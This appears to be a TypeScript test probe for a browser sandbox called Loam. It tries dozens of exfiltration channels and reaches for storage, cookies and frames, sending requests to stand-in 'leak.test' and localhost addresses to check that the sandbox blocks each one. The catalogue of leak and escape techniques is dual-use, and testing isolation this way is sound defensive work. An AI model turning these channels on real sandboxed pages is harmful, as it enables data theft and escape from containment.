/** Run in the sandbox's document after Loam's own script, as if a program had got there too. */
import {
  addressOf,
  commonAttempts,
  commonUses,
  connect,
  findGranted,
  settled,
  tryAll,
} from './attempts.ts'

function add(html: string): Promise<void> {
  const holder = document.createElement('div')
  holder.innerHTML = html
  document.body.append(holder)
  const [element] = holder.children
  return element ? settled(element, 'load', 'error') : Promise.resolve()
}

function link(rel: string, url: string, attributes: Record<string, string> = {}): Promise<void> {
  const element = document.createElement('link')
  for (const [name, value] of Object.entries({ rel, href: url, ...attributes })) {
    element.setAttribute(name, value)
  }
  document.head.append(element)
  return settled(element, 'load', 'error')
}

function script(content: { src?: string; type?: string; text?: string }): Promise<void> {
  const element = Object.assign(document.createElement('script'), content)
  document.head.append(element)
  return settled(element, 'load', 'error')
}

function submit(url: string, target: string): void {
  const form = document.createElement('form')
  Object.assign(form, { action: url, method: 'post', target })
  document.body.append(form)
  form.submit()
}

function click(attributes: Record<string, string>): void {
  const anchor = document.createElement('a')
  for (const [name, value] of Object.entries(attributes)) anchor.setAttribute(name, value)
  document.body.append(anchor)
  anchor.click()
}

/** Another realm, whose constructors nobody took away. */
function childWindow(): Window & typeof globalThis {
  const child = document.createElement('iframe')
  document.body.append(child)
  return child.contentWindow as Window & typeof globalThis
}

const foreign = (url: string, name: string) =>
  url.replace(/^http:\/\/localhost:\d+/, `https://${name}.leak.test`)

const attempts = {
  ...commonAttempts,
  beacon: (url: string) => navigator.sendBeacon(url, 'secret'),
  image: (url: string) => add(`<img src="${url}">`),
  'image-set': (url: string) => add(`<img srcset="${url} 1x">`),
  attribution: (url: string) => add(`<img attributionsrc="${url}">`),
  svg: (url: string) => add(`<svg><image href="${url}"/><use href="${url}#x"/></svg>`),
  video: (url: string) => add(`<video src="${url}" poster="${url}" autoplay muted></video>`),
  audio: (url: string) => add(`<audio src="${url}" preload="auto"></audio>`),
  object: (url: string) => add(`<object data="${url}"></object>`),
  embed: (url: string) => add(`<embed src="${url}">`),
  frame: (url: string) => add(`<iframe src="${url}"></iframe>`),
  'frame-document': (url: string) => add(`<iframe srcdoc="<img src='${url}'>"></iframe>`),
  'style-attribute': (url: string) => add(`<b style="background: url(${url})">x</b>`),
  'style-element': (url: string) =>
    add(`<style>@import url(${url}); b { background: url(${url}) }</style>`),
  'style-set': (url: string) => {
    document.body.style.backgroundImage = `url(${url})`
  },
  'style-sheet': (url: string) => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(`body { background: url(${url}); cursor: url(${url}), auto }`)
    document.adoptedStyleSheets.push(sheet)
  },
  stylesheet: (url: string) => link('stylesheet', url),
  icon: (url: string) => link('icon', url),
  manifest: (url: string) => link('manifest', url),
  prefetch: (url: string) => link('prefetch', url),
  preload: (url: string) => link('preload', url, { as: 'image' }),
  'preload-fetch': (url: string) => link('preload', url, { as: 'fetch', crossorigin: '' }),
  modulepreload: (url: string) => link('modulepreload', `${url}.js`),
  prerender: (url: string) => link('prerender', url),
  'fetch-name': (url: string) => fetch(foreign(url, 'fetch')),
  'dns-prefetch': (url: string) => link('dns-prefetch', foreign(url, 'dns')),
  preconnect: (url: string) => link('preconnect', foreign(url, 'preconnect')),
  script: (url: string) => script({ src: `${url}.js` }),
  'script-inline': (url: string) => script({ text: `fetch(${JSON.stringify(url)})` }),
  'script-eval': (url: string) => new Function('url', 'return fetch(url)')(url),
  speculation: (url: string) =>
    script({ type: 'speculationrules', text: JSON.stringify({ prefetch: [{ urls: [url] }] }) }),
  worklet: (url: string) => new AudioContext().audioWorklet.addModule(`${url}.js`),
  policy: (url: string) => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'Content-Security-Policy'
    meta.content = `object-src 'none'; report-uri ${url}`
    document.head.append(meta)
  },
  'child-fetch': (url: string) => childWindow().fetch(url),
  'child-rtc': () => connect(childWindow().RTCPeerConnection),
  popup: (url: string) => window.open(url),
  'form-popup': (url: string) => submit(url, '_blank'),
  'link-popup': (url: string) => click({ href: url, target: '_blank' }),
  ping: (url: string) => click({ href: '#', ping: url }),
  top: (url: string) => {
    if (top && top !== self) top.location.href = url
  },
  'form-top': (url: string) => top !== self && submit(url, '_top'),
  'form-self': (url: string) => top !== self && submit(url, '_self'),
}
const uses = {
  ...commonUses,
  storage: () => localStorage.setItem('leak', '1'),
  session: () => sessionStorage.setItem('leak', '1'),
  'document-cookie': () => {
    // biome-ignore lint/suspicious/noDocumentCookie: it is one of the ways
    document.cookie = 'leak=1'
    if (document.cookie === '') throw new Error('Not kept')
  },
  'parent-document': () => {
    if (parent === self) throw new Error('Nobody above')
    return parent.document.title.length
  },
  'parent-storage': () => {
    if (parent === self) throw new Error('Nobody above')
    parent.localStorage.setItem('leak', '1')
  },
  'sibling-document': () => {
    for (let at = 0; at < parent.frames.length; at += 1) {
      const sibling = parent.frames[at]
      if (sibling !== undefined && sibling !== self) return sibling.document.title.length
    }
    throw new Error('Nobody beside')
  },
}

/** Ways that end the document, of which each document can try one. */
const lastWays: ReadonlyArray<readonly [name: string, leave: (url: string) => void]> = [
  [
    'location',
    (url) => {
      location.href = url
    },
  ],
  ['download', (url) => click({ href: url, download: 'leak' })],
  [
    'refresh',
    (url) => {
      const meta = document.createElement('meta')
      meta.httpEquiv = 'refresh'
      meta.content = `0;url=${url}`
      document.head.append(meta)
    },
  ],
]

async function probe(lastWay: number): Promise<void> {
  new BroadcastChannel('leak').postMessage('frame')
  parent.frames[0]?.postMessage('loam:host', '*', [new MessageChannel().port1])
  parent.postMessage({ granted: await findGranted(uses) }, '*')
  await tryAll('frame', attempts)
  parent.postMessage({ tried: true }, '*')
  const [name, leave] = lastWays[lastWay] ?? []
  if (name) leave?.(addressOf('frame', name))
}

// Not before the sandbox works, or it would have nothing to lose. Asked again until it answers.
let hasBegun = false
addEventListener('message', ({ data }) => {
  if (hasBegun || typeof data.lastWay !== 'number') return
  hasBegun = true
  void probe(data.lastWay)
})
